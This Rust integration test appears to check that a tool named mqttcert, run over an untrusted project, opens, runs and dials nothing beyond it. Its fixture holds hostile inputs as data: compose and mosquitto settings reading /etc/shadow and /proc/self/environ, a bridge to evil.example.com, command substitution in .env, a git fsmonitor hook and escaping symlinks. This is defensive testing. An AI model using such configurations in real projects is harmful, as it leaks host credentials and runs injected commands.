//! Run as root over a project that somebody else wrote, nothing outside it is opened, nothing runs and nobody is dialled:
//! shown by the system calls of whole processes. Needs strace.

use std::collections::BTreeSet;
use std::fs;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use super::faults::can_trace;
use super::peers;
use super::reissue::{folder, shell};

const CALLS: &str = "open,openat,openat2,creat,execve,execveat,connect,sendto,sendmsg,bind";

const COMPOSE: &str = r#"
include: [../outside/more.yml]
services:
  mqtt:
    image: eclipse-mosquitto:2
    container_name: iot-mqtt
    env_file: [../outside/secret.env, /proc/self/environ, ./certs/environ]
    command: ["sh", "-c", "touch $$RAN; mosquitto -c /mosquitto/config/mosquitto.conf"]
    volumes:
      - ./m.conf:/mosquitto/config/mosquitto.conf
      - ./certs:/c
      - /proc:/hostproc
      - /dev:/hostdev
      - /etc:/hostetc
      - ../outside:/up
    configs: [c1]
    secrets: [s1]
  app:
    build: {context: ./app, dockerfile: ../../outside/Dockerfile}
    extends: {file: ../outside/more.yml, service: base}
    environment: {MQTT_HOST: iot-mqtt, MQTT_PORT: "8883", MQTT_CA_CERT: /hostetc/shadow}
    volumes: ["/etc/shadow:/ca.crt", "./app:/app", "/:/host"]
    healthcheck: {test: ["CMD-SHELL", "touch ran"]}
  device:
    image: python:3
    environment: {MQTT_URL: "mqtts://evil.example.com:8883"}
    env_file: certs/fifo
configs: {c1: {file: ../outside/m.conf}}
secrets: {s1: {file: /etc/shadow}}
"#;

const CONF: &str = "listener 8883\nallow_anonymous true\ncafile /c/ca.crt\ncertfile /c/server.crt\nkeyfile /c/server.key\n\
    crlfile /hostetc/shadow\nlistener 8884\ncafile /hostproc/self/environ\ncertfile /up/server.crt\nkeyfile /up/server.key\n\
    tls_engine evil\nlistener 8885\ncertfile /c/shadow.crt\nkeyfile /c/far.key\npassword_file /hostetc/shadow\n\
    acl_file /hostdev/zero\nplugin /up/evil.so\nlog_dest file /up/log\nconnection b\naddress evil.example.com:8883\n\
    bridge_cafile /hostetc/shadow\n";

const COMMANDS: &[&str] = &[
    "check",
    "check --recursive --strict --format json",
    "check --expiring",
    "check --fix --unsafe-fixes --allow-dirty",
    "verdict --explain --stack all",
    "verdict --after-reissue --ca certs/ca.crt --ca-key certs/ca.key",
    "rehearse",
    "reissue --dry-run",
    "reissue --ca-key certs/ca.key",
    "reissue --undo",
    "init",
    "ca show",
];

/// A project with every way out that its author can write, and beside it what must stay unread.
fn project() -> (tempfile::TempDir, PathBuf) {
    let (outer, certs) = folder();
    let dir = outer.path().join("project");
    fs::create_dir_all(dir.join("app")).unwrap();
    fs::rename(&certs, dir.join("certs")).unwrap();
    shell(
        outer.path(),
        "cp -r project/certs outside; cd outside; echo LEAKED=1 > secret.env; echo 'services: {base: {image: x}}' > more.yml
         echo 'listener 1883' > m.conf; echo 'COPY /etc/shadow /s' > Dockerfile; cd ../project; mkfifo certs/fifo app/fifo.py
         git init -q .; git config core.fsmonitor 'touch ran'",
    );
    let write = |name: &str, text: &str| fs::write(dir.join(name), text).unwrap();
    write("docker-compose.yml", COMPOSE);
    write("m.conf", CONF);
    write(".env", "A=$(touch ran)\n");
    write(
        "app/Dockerfile",
        "FROM python:3\nCOPY ../../outside/ca.key /k\nCOPY /etc/shadow /s\nRUN touch ran\n",
    );
    for (to, at) in [
        ("/etc/shadow", "certs/shadow.crt"),
        ("/proc/self/environ", "certs/environ"),
        ("../../outside/ca.key", "certs/far.key"),
        ("/dev/zero", "app/zero.js"),
        ("/", "app/root"),
    ] {
        symlink(to, dir.join(at)).unwrap();
    }
    (outer, dir)
}

/// The answer, and every call that reached beyond the project.
fn traced(dir: &Path, arguments: &str) -> (Output, BTreeSet<String>) {
    let log = dir.join("../trace");
    let out = Command::new("strace")
        .args(["-f", "-qq", "-y", "-e", "signal=none", "-e", &format!("trace={CALLS}"), "-o"])
        .arg(&log)
        .arg(env!("CARGO_BIN_EXE_mqttcert"))
        .args(arguments.split(' '))
        .current_dir(dir)
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let real = dir.canonicalize().unwrap();
    let mut beyond = BTreeSet::new();
    for line in fs::read_to_string(&log).unwrap().lines() {
        let call = line.split_once(' ').map_or("", |(_, call)| call.trim_start());
        let wrong = if call.starts_with("exec") {
            !call.starts_with(&format!("execve(\"{}\"", env!("CARGO_BIN_EXE_mqttcert")))
        } else if call.starts_with("open") || call.starts_with("creat") {
            // What was opened stands behind the call's result; a path that is only walked along gives no content.
            let opened = call.rsplit_once("= ").and_then(|(_, r)| r.split_once('<')).map(|(_, p)| p);
            opened.filter(|_| !call.contains("O_PATH")).is_some_and(|p| {
                let path = Path::new(p.trim_end_matches('>'));
                let start = ["/lib", "/lib64", "/usr/lib", "/etc/ld.so.cache", "/etc/ld.so.preload"];
                // The standard library looks up its own stack in /proc/self/maps when it starts.
                let of_start = start.iter().any(|s| path.starts_with(s)) || p.ends_with("/maps>");
                !path.starts_with(&real) && !of_start
            })
        } else {
            call.contains("sin") && !call.contains("127.0.0.1")
        };
        if wrong {
            beyond.insert(call.to_owned());
        }
    }
    (out, beyond)
}

#[test]
fn a_hostile_project_has_nothing_opened_run_or_dialled_beyond_it() {
    let name = "a_hostile_project_has_nothing_opened_run_or_dialled_beyond_it";
    if !can_trace() {
        return peers::skip(name, "strace cannot trace here");
    }
    let (outer, dir) = project();
    // What a flag names is read wherever it is: that this is seen here shows that the rest would be.
    let (_, named) = traced(&dir, "check --conf ../outside/m.conf");
    assert!(!named.is_empty() && named.iter().all(|call| call.contains("outside/m.conf>")), "{named:#?}");
    for arguments in COMMANDS {
        let (out, beyond) = traced(&dir, arguments);
        assert!(beyond.is_empty(), "mqttcert {arguments}: {beyond:#?}");
        let said = [out.stdout, out.stderr].concat();
        let said = String::from_utf8_lossy(&said);
        assert!(!said.contains("root:") && !said.contains("LEAKED"), "mqttcert {arguments}: {said}");
        assert!(!said.contains("panicked") && !said.is_empty(), "mqttcert {arguments}: {said}");
        let ran = shell(outer.path(), "find . -name ran -o -name log");
        assert_eq!(ran, "", "mqttcert {arguments}");
    }
}
